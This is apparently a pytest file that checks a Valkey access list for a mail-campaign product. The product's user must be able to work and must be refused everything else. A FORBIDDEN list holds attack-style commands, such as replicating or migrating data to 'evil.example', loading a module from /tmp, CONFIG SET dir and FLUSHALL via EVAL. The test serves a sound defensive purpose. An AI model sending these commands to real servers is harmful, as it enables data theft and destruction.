"""The access list of deploy/valkey: with its user alone the product works, and can do nothing besides."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from redis import Redis
from redis.exceptions import AuthenticationError, RedisError, ResponseError
from redis.exceptions import ConnectionError as RedisAway
from sqlalchemy import select
from sqlalchemy.orm import Session

from campaign import config
from campaign.beat import Beat
from campaign.clock import utc_now
from campaign.db import Database
from campaign.dispatch import control
from campaign.lab.bench_company import make_company
from campaign.lab.sink import Sink, running
from campaign.models import DeliveryState, SegmentDigest
from campaign.processes import valkey_binary
from campaign.queue import Job, QueueName, Queues, key
from campaign.segments.asking import asking
from campaign.watch import probes
from tests.dispatch.making import rows_of
from tests.factories import make_segment

ACL = Path(__file__).parent.parent / "deploy/valkey/campaign.acl"
PASSWORD, OPERATOR = "a password of the test", "an operator of the test"
START_SECONDS, WORK_SECONDS = 120, 300
PEOPLE = 12
# what somebody would do who has the product's password: by family
FORBIDDEN = [
    ["CONFIG", "GET", "*"], ["CONFIG", "SET", "dir", "/tmp"], ["CONFIG", "REWRITE"],
    ["MODULE", "LOAD", "/tmp/x.so"], ["DEBUG", "RELOAD"], ["SHUTDOWN"], ["REPLICAOF", "evil.example", "6379"],
    ["SLAVEOF", "evil.example", "6379"], ["MONITOR"], ["SYNC"], ["BGREWRITEAOF"], ["SAVE"],
    ["FLUSHALL"], ["FLUSHDB"], ["KEYS", "*"], ["SCAN", "0"], ["RANDOMKEY"], ["SWAPDB", "0", "1"],
    ["MIGRATE", "evil.example", "6379", "rq:x", "0", "1"], ["RESTORE", "rq:x", "0", "x"], ["DUMP", "rq:x"],
    ["ACL", "LIST"], ["ACL", "SETUSER", "other", "on"], ["ACL", "WHOAMI"], ["CLIENT", "KILL", "ID", "1"],
    ["CLIENT", "PAUSE", "100000"], ["SCRIPT", "FLUSH"], ["FUNCTION", "FLUSH"], ["CLUSTER", "RESET"],
    ["LATENCY", "RESET"], ["SLOWLOG", "GET"], ["SORT", "rq:x"],
    ["GET", "other"], ["SET", "other", "1"], ["DEL", "other"], ["RENAME", "rq:x", "other"],
    ["PUBLISH", "other", "x"], ["SUBSCRIBE", "other"], ["PSUBSCRIBE", "*"],
    ["EVAL", "return redis.call('GET', 'other')", "0"], ["EVAL", "return redis.call('FLUSHALL')", "0"],
    ["EVAL", "return redis.call('CONFIG', 'GET', '*')", "0"],
]  # fmt: skip


@dataclass
class Server:
    """`url` as the product, `operator` as whoever keeps the server."""

    url: str
    operator: Redis


@pytest.fixture
def server() -> Iterator[Server]:
    # a short name: a socket's path may hold 107 bytes only
    with tempfile.TemporaryDirectory(prefix="acl-") as name:
        folder, socket = Path(name), Path(name) / "s"
        said = ACL.read_text().replace(
            "SHA256_OF_THE_PASSWORD", hashlib.sha256(PASSWORD.encode()).hexdigest()
        )
        (folder / "campaign.acl").write_text(
            f"{said}user operator on >{OPERATOR.replace(' ', '')} ~* &* +@all\n"
        )
        started = subprocess.Popen(
            [str(valkey_binary()), "--port", "0", "--unixsocket", str(socket), "--dir", name, "--save", "",
             "--aclfile", str(folder / "campaign.acl"), "--enable-debug-command", "yes"],
            stdout=subprocess.DEVNULL,
        )  # fmt: skip
        operator = Redis(
            unix_socket_path=str(socket), username="operator", password=OPERATOR.replace(" ", "")
        )
        wait_until(lambda: answers(operator), START_SECONDS)
        yield Server(f"unix://campaign:{PASSWORD.replace(' ', '%20')}@{socket}", operator)
        operator.close()
        started.terminate()
        started.wait()


def answers(client: Redis) -> bool:
    try:
        return bool(client.ping())
    except RedisAway:
        return False


def wait_until(done: Callable[[], bool], seconds: float) -> None:
    end = time.monotonic() + seconds
    while not done():
        assert time.monotonic() < end, "took too long"
        time.sleep(0.05)


def denied(server: Server) -> list[str]:
    """What the server refused: it is asked itself, for in places the product goes on without a queue."""
    return [f"{entry['reason']} {entry['object']}" for entry in server.operator.acl_log()]


def test_the_product_works_with_it(database: Database, db: Session, server: Server, tmp_path: Path) -> None:
    """A beat, a lane, other jobs, a probe, a count that a newer one may stop."""
    with running(Sink()) as sink:
        env = os.environ | {
            "DATABASE_URL": database.url.render_as_string(hide_password=False),
            "REDIS_URL": server.url,
            "CAMPAIGN_STATE_DIR": str(tmp_path),
            "SMTP_URL": f"smtp://127.0.0.1:{sink.port}",
            "CAMPAIGN_EMAIL_WORKERS": "1",
        }
        settings = config.load(env)
        queues = Queues(Redis.from_url(server.url))
        mailing = make_company(db, PEOPLE, utc_now())
        make_segment(db)
        control.start(db, mailing, utc_now())
        db.commit()
        for now in (utc_now(), utc_now()):
            Beat(settings, database, queues).round(now)
        queues.ring(Job.SEGMENT_DIGESTS)
        work(env, QueueName.EMAIL, QueueName.LETTERS, QueueName.INBOUND)
        assert len(sink.accepted) == PEOPLE
    with asking(database, settings, tab="a" * 16) as asked:
        assert asked.scalar(select(1)) == 1
    assert {row.state for row in rows_of(db, mailing)} == {DeliveryState.ACCEPTED}
    assert list(db.scalars(select(SegmentDigest.segment_id)))
    assert probes.redis_answers(settings).ok
    queues.connection.close()
    assert denied(server) == []
    assert all(name.startswith(key()[: len("rq:")].encode()) for name in server.operator.keys("*"))


def work(env: dict[str, str], *names: QueueName) -> None:
    for name in names:
        code = (
            "from campaign import logs; from campaign.queue import QueueName;"
            f"from workers.__main__ import work; logs.set_up(); work(QueueName({str(name)!r}), burst=True)"
        )
        done = subprocess.run(
            [sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=WORK_SECONDS
        )
        assert done.returncode == 0, done.stderr


def test_nobody_comes_in_without_the_password(server: Server) -> None:
    path = server.url.rpartition("@")[2]
    for url in (f"unix://{path}", f"unix://campaign:wrong@{path}", f"unix://default:x@{path}"):
        with Redis.from_url(url) as stranger, pytest.raises((AuthenticationError, ResponseError)):
            stranger.ping()


def test_it_does_nothing_besides(server: Server) -> None:
    server.operator.set("other", "theirs")
    with Redis.from_url(server.url) as product:
        product.set("rq:x", "ours")
        for words in FORBIDDEN:
            with pytest.raises(RedisError, match=r"(?i)permission|acl|not allowed"):
                product.execute_command(*words)
        assert product.get("rq:x") == b"ours"
    assert server.operator.get("other") == b"theirs"
    assert len(denied(server)) > 0
